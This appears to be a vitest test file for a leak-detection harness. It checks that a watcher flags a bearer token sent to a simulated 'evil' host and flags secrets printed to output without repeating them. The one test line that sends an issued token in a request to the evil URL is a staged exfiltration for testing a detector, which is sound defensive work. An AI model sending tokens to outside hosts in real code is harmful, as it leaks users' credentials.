import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { boxHistories, type Simulator, startSimulator } from "../src/index.js";
import { astray } from "./astray.js";

let box: Simulator;
beforeAll(async () => {
  box = await startSimulator({ granules: 1 });
});
afterAll(() => box.close());

describe("the watch over all tests", () => {
  test("finds what leaked, also after the log was cleared", async () => {
    const authorization = `Bearer ${box.issueToken()}`;
    await (await fetch(`${box.urls.evil}/x`, { headers: { authorization } })).text();
    box.clearRequests();
    expect(box.leaks()).toEqual([]);
    expect(astray(boxHistories(), "")).toEqual(["token-origin: token in header authorization, GET to evil"]);
  });

  test("finds what was printed, and does not print it again", () => {
    const token = box.issueToken();
    const found = astray(boxHistories(), `progress: 3 of 4\nfetching with ${token}\n${box.user.password}`);
    expect(found).toContain(`a secret of ${token.length} characters was printed`);
    expect(found).toContain(`a secret of ${box.user.password.length} characters was printed`);
    expect(found.join()).not.toContain(token);
  });

  test("counts the requests of every box of the process", async () => {
    const before = [...boxHistories()].reduce((sum, { requestCount }) => sum + requestCount, 0);
    await (await fetch(`${box.urls.evil}/y`)).text();
    box.clearRequests();
    expect([...boxHistories()].reduce((sum, { requestCount }) => sum + requestCount, 0)).toBe(before + 1);
  });
});
